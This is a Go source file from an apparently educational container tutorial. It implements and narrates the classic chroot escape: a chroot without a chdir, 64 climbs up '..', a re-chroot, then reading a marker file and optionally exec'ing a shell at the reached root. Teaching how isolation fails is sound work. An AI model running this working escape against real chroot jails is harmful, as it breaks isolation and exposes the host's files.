package chrootdemo

// escape: the classic chroot escape, as the learner runs it (article §6.1).
// Shell twin, as far as a shell can say it:
//
//	mkdir .escape
//	chroot .escape        # chroot(2) alone; chroot(1) would also cd into it
//	cd ..; cd ..; …       # 64 times
//	chroot .
//	cd /
//	ls /; cat /marker.txt
//
// chroot(2) moves a process's root but not its working directory. Left
// outside the new root, the working directory is under no root at all, and
// ".." only stops climbing at the process's root — which it never meets. So
// it climbs to the root of the mount namespace, and chroot(".") makes that
// the root. In the demo that is the tutorial's top, with the marker; in a
// kobako container it is the container's own root, because pivot_root made
// it the root of the namespace and the host's "/" was unmounted.
//
// The same binary is kobako-tutor, run under the name "escape": bound into
// the demo's image by Init, and into a kobako container with -v.

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// climbs is how many times escape goes up: more than any real tree is deep.
const climbs = 64

// Escape is the escape tool; args, if any, are a command to exec once out
// (escape /bin/sh gives a shell at whatever root the climb reached). It
// returns 0 when the climb ran, whatever it found, and 1 when it could not
// run, which without CAP_SYS_CHROOT is the chroot itself.
func Escape(args []string) int {
	msg := messagesFor(locale())
	out := os.Stdout
	fmt.Fprintln(out, msg.title)
	if err := climb(out, msg); err != nil {
		fmt.Fprintf(os.Stderr, "escape: %v\n", err)
		return 1
	}
	if len(args) == 0 {
		return 0
	}
	// exec $@ — found through PATH as it reads from the new root
	path, err := exec.LookPath(args[0])
	if err == nil {
		err = unix.Exec(path, args, os.Environ())
	}
	fmt.Fprintf(os.Stderr, "escape: exec %s: %v\n", args[0], err)
	return 127
}

// climb does the escape, narrating each step, then reports what it
// reached on out and in /tmp/escape.txt.
func climb(out io.Writer, msg messages) error {
	step := func(shell, why string) { fmt.Fprintf(out, "  $ %-22s # %s\n", shell, why) }
	// exec 8</tmp — /tmp as it is now, before the root moves: where the
	// report goes.
	tmp, tmpErr := unix.Open("/tmp", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if tmpErr == nil {
		defer unix.Close(tmp)
	}
	// exec 9<. — the directory we start in, to tidy up .escape from the
	// far side.
	start, err := unix.Open(".", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open .: %w", err)
	}
	defer unix.Close(start)

	// mkdir .escape
	err = unix.Mkdir(escapeDir, 0o700)
	made := err == nil
	if err != nil && !errors.Is(err, unix.EEXIST) {
		return fmt.Errorf("mkdir %s: %w%s", escapeDir, err, msg.mkdirHint)
	}
	step("mkdir "+escapeDir, msg.mkdir)
	// rmdir .escape — through the handle on where it was made, since once
	// the root moves no path may lead there. Before looking around, so
	// that the listing shows the root as it was.
	tidy := func() {
		if made {
			unix.Unlinkat(start, escapeDir, unix.AT_REMOVEDIR)
			made = false
		}
	}
	defer tidy()
	// chroot .escape — and no chdir
	if err := unix.Chroot(escapeDir); err != nil {
		if errors.Is(err, unix.EPERM) {
			return fmt.Errorf("chroot %s: %w%s", escapeDir, err, msg.noChroot)
		}
		return fmt.Errorf("chroot %s: %w", escapeDir, err)
	}
	step("chroot "+escapeDir, msg.chroot)
	step("pwd", msg.pwd+" → "+getcwd())
	// cd .. (64 times)
	for range climbs {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	step(fmt.Sprintf("cd ..   (%d times)", climbs), msg.climb)
	// chroot .
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	step("chroot .", msg.rechroot)
	// cd /
	if err := unix.Chdir("/"); err != nil {
		return fmt.Errorf("chdir /: %w", err)
	}
	step("cd /", msg.cd)
	tidy()

	report, err := look("/")
	if err != nil {
		return err
	}
	fmt.Fprintf(out, "\n%s", report)
	if report.Marker {
		fmt.Fprintln(out, msg.escaped)
	} else {
		fmt.Fprintln(out, msg.stopped)
	}
	if tmpErr == nil {
		writeReport(out, msg, tmp, report)
	}
	return nil
}

// escapeDir is the directory escape makes to chroot into.
const escapeDir = ".escape"

// look reports what root holds: its listing, and the marker if it is there.
func look(root string) (Report, error) {
	// ls /
	entries, err := os.ReadDir(root)
	if err != nil {
		return Report{}, fmt.Errorf("ls %s: %w", root, err)
	}
	var r Report
	for _, e := range entries {
		r.Listing = append(r.Listing, e.Name())
	}
	// cat /marker.txt
	text, err := os.ReadFile(filepath.Join(root, markerName))
	if err != nil {
		return r, nil // no marker: marker: none
	}
	r.Marker = true
	for _, line := range strings.Split(string(text), "\n") {
		if word, ok := strings.CutPrefix(line, secretPrefix); ok {
			r.Secret = word
		}
	}
	return r, nil
}

// writeReport leaves the report in /tmp/escape.txt, /tmp as it was before
// the climb, for the tutorial to read. Not writable is not an error: it
// is said, and the learner's screen has the report anyway.
func writeReport(out io.Writer, msg messages, tmp int, r Report) {
	// cat > /tmp/escape.txt, not through a symlink someone left there
	fd, err := unix.Openat(tmp, reportName, unix.O_WRONLY|unix.O_CREAT|unix.O_TRUNC|unix.O_NOFOLLOW|unix.O_CLOEXEC, 0o644)
	if err == nil {
		f := os.NewFile(uintptr(fd), reportName)
		_, err = io.WriteString(f, r.String())
		if closeErr := f.Close(); err == nil {
			err = closeErr
		}
	}
	if err != nil {
		fmt.Fprintf(out, "%s: /tmp/%s: %v\n", msg.notWritten, reportName, err)
	}
}

// getcwd is the kernel's own answer, unfiltered: outside the root it
// starts "(unreachable)", which Go's os.Getwd would turn into an error.
func getcwd() string {
	buf := make([]byte, unix.PathMax)
	n, err := unix.Getcwd(buf)
	if err != nil {
		return err.Error()
	}
	return strings.TrimRight(string(buf[:n]), "\x00")
}
